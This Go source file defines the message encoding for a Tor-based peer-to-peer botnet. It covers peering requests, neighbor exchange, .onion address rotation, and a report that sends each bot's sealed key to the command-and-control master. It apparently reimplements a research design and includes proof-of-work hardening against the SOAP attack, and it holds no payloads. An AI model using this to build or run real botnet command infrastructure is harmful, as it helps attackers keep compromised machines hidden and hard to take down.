package core

import (
	"encoding/binary"
	"errors"
	"fmt"
)

// MsgType tags a protocol message.
type MsgType byte

// Protocol message types.
const (
	MsgPeerReq MsgType = iota + 1
	MsgPeerAck
	MsgNoNUpdate
	MsgAddrChange
	MsgPing
	MsgPong
	MsgBroadcast
	MsgDirected
	MsgReport
)

// String names the message type.
func (m MsgType) String() string {
	switch m {
	case MsgPeerReq:
		return "PEER_REQ"
	case MsgPeerAck:
		return "PEER_ACK"
	case MsgNoNUpdate:
		return "NON_UPDATE"
	case MsgAddrChange:
		return "ADDR_CHANGE"
	case MsgPing:
		return "PING"
	case MsgPong:
		return "PONG"
	case MsgBroadcast:
		return "BROADCAST"
	case MsgDirected:
		return "DIRECTED"
	case MsgReport:
		return "REPORT"
	default:
		return fmt.Sprintf("MsgType(%d)", byte(m))
	}
}

// ErrBadMessage reports a malformed protocol message.
var ErrBadMessage = errors.New("core: malformed message")

// Envelope is the flooding-aware frame around every payload. Inside the
// network it always travels sealed (fixed size, uniform), so relaying
// bots cannot see any of these fields for traffic they merely forward.
type Envelope struct {
	Type MsgType
	// MsgID deduplicates flooded messages.
	MsgID [16]byte
	// TTL bounds flooding depth; direct (non-flooded) messages use 0.
	TTL uint8
	// Payload is the type-specific encoding.
	Payload []byte
}

// Encode renders the envelope.
func (e *Envelope) Encode() []byte {
	return e.AppendTo(make([]byte, 0, 20+len(e.Payload)))
}

// AppendTo appends the envelope's encoding to out, so senders can
// encode into a reused buffer.
func (e *Envelope) AppendTo(out []byte) []byte {
	out = append(out, byte(e.Type))
	out = append(out, e.MsgID[:]...)
	out = append(out, e.TTL)
	var n [2]byte
	binary.BigEndian.PutUint16(n[:], uint16(len(e.Payload)))
	out = append(out, n[:]...)
	out = append(out, e.Payload...)
	return out
}

// DecodeEnvelope parses an envelope.
func DecodeEnvelope(raw []byte) (*Envelope, error) {
	if len(raw) < 20 {
		return nil, fmt.Errorf("%w: envelope %d bytes", ErrBadMessage, len(raw))
	}
	e := &Envelope{Type: MsgType(raw[0]), TTL: raw[17]}
	copy(e.MsgID[:], raw[1:17])
	n := int(binary.BigEndian.Uint16(raw[18:20]))
	if len(raw) < 20+n {
		return nil, fmt.Errorf("%w: payload declared %d, have %d", ErrBadMessage, n, len(raw)-20)
	}
	e.Payload = append([]byte(nil), raw[20:20+n]...)
	return e, nil
}

// --- small binary helpers -------------------------------------------------

type writer struct{ buf []byte }

// newWriter returns a writer whose buffer holds size bytes, so an
// encoder that sizes its payload up front allocates exactly once.
func newWriter(size int) writer { return writer{buf: make([]byte, 0, size)} }

// strsLen is the encoded size of a list of str fields.
func strsLen(ss []string) int {
	n := 2 * len(ss)
	for _, s := range ss {
		n += len(s)
	}
	return n
}

func (w *writer) u8(v byte) { w.buf = append(w.buf, v) }
func (w *writer) u16(v int) {
	var b [2]byte
	binary.BigEndian.PutUint16(b[:], uint16(v))
	w.buf = append(w.buf, b[:]...)
}
func (w *writer) u64(v uint64) {
	var b [8]byte
	binary.BigEndian.PutUint64(b[:], v)
	w.buf = append(w.buf, b[:]...)
}
func (w *writer) bytes(v []byte) { w.u16(len(v)); w.buf = append(w.buf, v...) }
func (w *writer) str(v string)   { w.u16(len(v)); w.buf = append(w.buf, v...) }
func (w *writer) raw(v []byte)   { w.buf = append(w.buf, v...) }

type reader struct {
	buf []byte
	err error
}

func (r *reader) fail() {
	if r.err == nil {
		r.err = ErrBadMessage
	}
}

func (r *reader) u8() byte {
	if r.err != nil || len(r.buf) < 1 {
		r.fail()
		return 0
	}
	v := r.buf[0]
	r.buf = r.buf[1:]
	return v
}

func (r *reader) u16() int {
	if r.err != nil || len(r.buf) < 2 {
		r.fail()
		return 0
	}
	v := binary.BigEndian.Uint16(r.buf[:2])
	r.buf = r.buf[2:]
	return int(v)
}

func (r *reader) u64() uint64 {
	if r.err != nil || len(r.buf) < 8 {
		r.fail()
		return 0
	}
	v := binary.BigEndian.Uint64(r.buf[:8])
	r.buf = r.buf[8:]
	return v
}

func (r *reader) bytes() []byte {
	n := r.u16()
	if r.err != nil || len(r.buf) < n {
		r.fail()
		return nil
	}
	v := append([]byte(nil), r.buf[:n]...)
	r.buf = r.buf[n:]
	return v
}

func (r *reader) str() string {
	n := r.u16()
	if r.err != nil || len(r.buf) < n {
		r.fail()
		return ""
	}
	v := string(r.buf[:n])
	r.buf = r.buf[n:]
	return v
}

func (r *reader) raw(n int) []byte {
	if r.err != nil || len(r.buf) < n {
		r.fail()
		return nil
	}
	v := append([]byte(nil), r.buf[:n]...)
	r.buf = r.buf[n:]
	return v
}

// --- payloads --------------------------------------------------------------

// PeerReq asks the receiver to accept the sender as a peer. Degree is
// self-declared — the trust SOAP exploits. ProofNonce/ProofBits carry
// an optional hashcash proof when the responder demanded one
// (Section VII-A hardening).
type PeerReq struct {
	Onion      string
	Degree     int
	ProofNonce uint64
	ProofBits  uint8
}

// Encode renders the payload.
func (p *PeerReq) Encode() []byte {
	w := newWriter(2 + len(p.Onion) + 2 + 8 + 1)
	w.str(p.Onion)
	w.u16(p.Degree)
	w.u64(p.ProofNonce)
	w.u8(p.ProofBits)
	return w.buf
}

// DecodePeerReq parses a PeerReq payload.
func DecodePeerReq(raw []byte) (*PeerReq, error) {
	r := reader{buf: raw}
	p := &PeerReq{Onion: r.str(), Degree: r.u16()}
	p.ProofNonce = r.u64()
	p.ProofBits = r.u8()
	if r.err != nil {
		return nil, fmt.Errorf("%w: PeerReq", ErrBadMessage)
	}
	return p, nil
}

// PeerAck answers a PeerReq, carrying the responder's own address,
// degree, and neighbor list (the NoN exchange). A rejection may carry a
// proof-of-work challenge the requester must solve to retry.
type PeerAck struct {
	Accepted  bool
	Onion     string
	Degree    int
	Neighbors []string
	// Challenge and RequiredBits are set on PoW-gated rejections.
	Challenge    []byte
	RequiredBits uint8
}

// Encode renders the payload.
func (p *PeerAck) Encode() []byte {
	w := newWriter(1 + 2 + len(p.Onion) + 2 + 2 + strsLen(p.Neighbors) + 2 + len(p.Challenge) + 1)
	if p.Accepted {
		w.u8(1)
	} else {
		w.u8(0)
	}
	w.str(p.Onion)
	w.u16(p.Degree)
	w.u16(len(p.Neighbors))
	for _, n := range p.Neighbors {
		w.str(n)
	}
	w.bytes(p.Challenge)
	w.u8(p.RequiredBits)
	return w.buf
}

// DecodePeerAck parses a PeerAck payload.
func DecodePeerAck(raw []byte) (*PeerAck, error) {
	r := reader{buf: raw}
	p := &PeerAck{Accepted: r.u8() == 1, Onion: r.str(), Degree: r.u16()}
	n := r.u16()
	if r.err != nil || n > 1024 {
		return nil, fmt.Errorf("%w: PeerAck", ErrBadMessage)
	}
	for i := 0; i < n; i++ {
		p.Neighbors = append(p.Neighbors, r.str())
	}
	p.Challenge = r.bytes()
	if len(p.Challenge) == 0 {
		p.Challenge = nil
	}
	p.RequiredBits = r.u8()
	if r.err != nil {
		return nil, fmt.Errorf("%w: PeerAck neighbors", ErrBadMessage)
	}
	return p, nil
}

// NoNUpdate refreshes the sender's neighbor list at a peer.
type NoNUpdate struct {
	Onion     string
	Degree    int
	Neighbors []string
}

// Encode renders the payload.
func (p *NoNUpdate) Encode() []byte {
	w := newWriter(2 + len(p.Onion) + 2 + 2 + strsLen(p.Neighbors))
	w.str(p.Onion)
	w.u16(p.Degree)
	w.u16(len(p.Neighbors))
	for _, n := range p.Neighbors {
		w.str(n)
	}
	return w.buf
}

// DecodeNoNUpdate parses a NoNUpdate payload.
func DecodeNoNUpdate(raw []byte) (*NoNUpdate, error) {
	r := reader{buf: raw}
	p := &NoNUpdate{Onion: r.str(), Degree: r.u16()}
	n := r.u16()
	if r.err != nil || n > 1024 {
		return nil, fmt.Errorf("%w: NoNUpdate", ErrBadMessage)
	}
	for i := 0; i < n; i++ {
		p.Neighbors = append(p.Neighbors, r.str())
	}
	if r.err != nil {
		return nil, fmt.Errorf("%w: NoNUpdate neighbors", ErrBadMessage)
	}
	return p, nil
}

// AddrChange announces the sender's periodic .onion rotation
// (Section IV-C "Forgetting").
type AddrChange struct {
	OldOnion string
	NewOnion string
}

// Encode renders the payload.
func (p *AddrChange) Encode() []byte {
	w := newWriter(2 + len(p.OldOnion) + 2 + len(p.NewOnion))
	w.str(p.OldOnion)
	w.str(p.NewOnion)
	return w.buf
}

// DecodeAddrChange parses an AddrChange payload.
func DecodeAddrChange(raw []byte) (*AddrChange, error) {
	r := reader{buf: raw}
	p := &AddrChange{OldOnion: r.str(), NewOnion: r.str()}
	if r.err != nil {
		return nil, fmt.Errorf("%w: AddrChange", ErrBadMessage)
	}
	return p, nil
}

// Report is the rally-stage bot-to-C&C message: the bot's current
// address and its key K_B sealed to the master's public encryption key.
type Report struct {
	Onion    string
	SealedKB []byte
}

// Encode renders the payload.
func (p *Report) Encode() []byte {
	w := newWriter(2 + len(p.Onion) + 2 + len(p.SealedKB))
	w.str(p.Onion)
	w.bytes(p.SealedKB)
	return w.buf
}

// DecodeReport parses a Report payload.
func DecodeReport(raw []byte) (*Report, error) {
	r := reader{buf: raw}
	p := &Report{Onion: r.str(), SealedKB: r.bytes()}
	if r.err != nil {
		return nil, fmt.Errorf("%w: Report", ErrBadMessage)
	}
	return p, nil
}
